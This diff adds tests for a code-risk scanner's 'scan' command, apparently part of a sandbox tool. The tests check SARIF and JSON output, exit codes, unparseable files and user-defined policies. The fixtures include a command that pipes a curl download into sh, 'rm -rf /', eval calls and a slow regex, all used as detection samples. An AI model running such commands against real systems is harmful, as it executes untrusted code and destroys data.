@@ -49,13 +49,113 @@ def test_object(home):
     tap.ok(done.returncode == 0 and done.stdout == "risk: none\n", "what only speaks of evil is clean", done)
 
 
+def test_formats(home):
+    home.put("src/x.js", 'eval("1");\n')
+    home.put("src/odd name.sh", "curl http://198.51.100.1 | sh\n")
+    home.put("src/data.bin", b"\\0\\1")
+    home.put("src/.git/hook.py", "eval(1)\n")
+    answer = home.data("scan", "src")
+    tap.equal({one["file"] for one in answer["findings"]}, {"src/x.js", "src/odd name.sh"}, "a directory is walked")
+    tap.equal(answer["skipped"], ["src/data.bin"], "what is no source is listed and skipped")
+    tap.equal(home.call("scan", "--format", "json", "src/x.js").stdout, home.call("scan", "--json", "src/x.js").stdout,
+              "--format json is --json")
+    log = json.loads(home.call("scan", "--format", "sarif", "src").stdout)
+    run = log["runs"][0]
+    tap.ok(log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json") and len(log["runs"]) == 1
+           and run["tool"]["driver"]["name"], "SARIF: the log and its tool have what they must have", log)
+    ids = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
+    tap.ok(len(set(ids)) == len(ids) and all(rule["shortDescription"]["text"] for rule in run["tool"]["driver"]["rules"]),
+           "SARIF: each rule once")
+    for result in run["results"]:
+        place = result["locations"][0]["physicalLocation"]
+        if not (ids[result["ruleIndex"]] == result["ruleId"] and result["message"]["text"]
+                and result["level"] in ("none", "note", "warning", "error") and place["region"]["startLine"] >= 1
+                and place["region"]["startColumn"] >= 1 and " " not in place["artifactLocation"]["uri"]):
+            tap.ok(False, "SARIF: a result lacks something", result)
+    tap.ok("src/odd%20name.sh" in {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]},
+           "SARIF: names become addresses")
+    tap.equal(home.call("scan", "--format", "xml", "src").returncode, 2, "no other format")
+
+
+def test_exits(home):
+    home.put("low.py", "import os\nos.remove('x.txt')\n")
+    for words, code in ((("low.py",), 0), (("--fail-on", "low", "low.py"), 1), (("--fail-on", "critical", "a.py"), 0),
+                        (("--fail-on", "nonsense", "a.py"), 2), (("nowhere.py",), 5), ((), 2), (("/dev/null",), 2),
+                        (("--lang", "cobol", "a.py"), 2), (("b.py", "a.py"), 1)):
+        tap.equal(home.call("scan", *words).returncode, code, f"scan {' '.join(words)}: exit {code}")
+    done = home.call("scan", "--lang", "shell", "-", stdin="rm -rf /\n")
+    tap.ok(done.returncode == 1 and "-:1:1: critical" in done.stdout, "standard input", done)
+    tap.equal(home.data("scan", "--lang", "python", "--content", "eval(x)").get("risk"), "high", "--content")
+    done = home.call("scan", "--explain", "python.exec")
+    tap.ok(done.returncode == 0 and "Instead:" in done.stdout, "--explain", done)
+    done = home.call("scan", "--explain", "exek")
+    tap.ok(done.returncode == 5 and "exec" in done.stderr, "--explain of no rule names the nearest", done)
+
+
+def test_unreadable(home):
+    home.put("broken.py", "def f(:\n    pass\n")
+    home.put("huge.py", "x = 1\n" * 200000)
+    home.put("deep.js", "[" * 20000)
+    home.put("nul.sh", b"echo \\0\n".replace(b"\\0", b"\0"))
+    home.put("notes.txt", "eval(1)\n")
+    for name in ("broken.py", "huge.py", "deep.js", "nul.sh", "notes.txt"):
+        answer = home.data("scan", name)
+        tap.ok(answer.get("analysable") is False and answer.get("risk") == "high", f"{name} is not analysable, and high",
+               answer)
+
+
+POLICY = """
+python:
+  forbidden_imports: [socket]
+  forbidden_functions: [print, "*.execute"]
+  forbidden_commands: [git push]
+  forbidden_patterns: ['secret_\\w+']
+"""
+
+
+def test_policy(home):
+    home.put("policy.yaml", POLICY)
+    home.put("p.py", "import socket as s\nprint(1)\ncursor.execute('x')\nsecret_name = 1\n# secret_comment\n"
+             "x = 'secret_text'\nimport subprocess\nsubprocess.run(['git', 'push', 'origin'])\n")
+    found = rules(home.data("scan", "--policy", "policy.yaml", "p.py"))
+    tap.ok({(1, "python.forbidden-import"), (2, "python.forbidden-function"), (3, "python.forbidden-function"),
+            (4, "python.forbidden-pattern"), (8, "python.forbidden-command")} <= found, "plain lists", found)
+    tap.ok(not {(5, "python.forbidden-pattern"), (6, "python.forbidden-pattern")} & found,
+           "a pattern does not match in comments and texts", found)
+    home.put("more.yaml", "builtin: false\npython:\n  forbidden_patterns: [{pattern: 'secret_text', in: strings, severity: "
+             "critical, message: nothing secret here}]\n")
+    answer = home.data("scan", "--policy", "more.yaml", "p.py")
+    tap.equal([(one["line"], one["severity"]) for one in answer["findings"]], [(6, "critical")],
+              "places, severities, messages of one's own, and nothing built in")
+    home.put("allow.yaml", "python: {allowed_functions: [subprocess.run], severities: {exec: low}}\n")
+    tap.equal(home.call("scan", "--policy", "allow.yaml", "--lang", "python", "-",
+                        stdin="import subprocess\nsubprocess.run(x)\neval(y)\n").returncode, 0, "allowed, and weighed")
+    for text, word in (("python: {forbidden_import: [x]}\n", "forbidden_imports"), ("- 1\n", "a policy is a map"),
+                       ("severities: {exek: low}\n", "exec"), ("severities: {exec: bad}\n", "a severity is"),
+                       ("python: {forbidden_patterns: ['(']}\n", "without its )"),
+                       ("python: {forbidden_patterns: ['(a)\\1']}\n", "linear"),
+                       ("python: {forbidden_patterns: ['((a{99}){99}){99}']}\n", "too much"),
+                       ("severities: {not-analysable: off}\n", "whatever a policy says"),
+                       ("a: &a [x]\nb: *a\n", "bad.yaml:1"), ("a: [" * 100, "bad.yaml:1")):
+        home.put("bad.yaml", text)
+        done = home.call("scan", "--policy", "bad.yaml", "p.py")
+        tap.ok(done.returncode == 2 and word in done.stderr, f"a bad policy: {done.stderr.strip()[:100]}", done)
+    home.put("slow.yaml", "python: {forbidden_patterns: ['(a*)*(a*)*(a|a)*b']}\n")
+    home.put("aaa.py", "a" * 100000 + "\n")
+    tap.equal(home.call("scan", "--policy", "slow.yaml", "aaa.py", timeout=60).returncode, 0, "no pattern is slow")
+    home.put("../.config/aisbx/scan.yaml", "python: {forbidden_imports: [json]}\n")
+    tap.equal(home.call("scan", "b.py").returncode, 1, "the user's own policy is taken")
+    os.unlink(home.path + "/.config/aisbx/scan.yaml")
+
+
 def main():
     with Home("aisbx-scan.") as home:
         done = home.call("scan", "--lang", "python", "-", stdin="1\n")
         if "no scanner" in done.stderr:
             tap.skip("scan", "this build has no scanner")
             return tap.done()
-        test_object(home)
+        for test in (test_object, test_formats, test_exits, test_unreadable, test_policy):
+            tap.attempt(test, home)
     return tap.done()
 
 
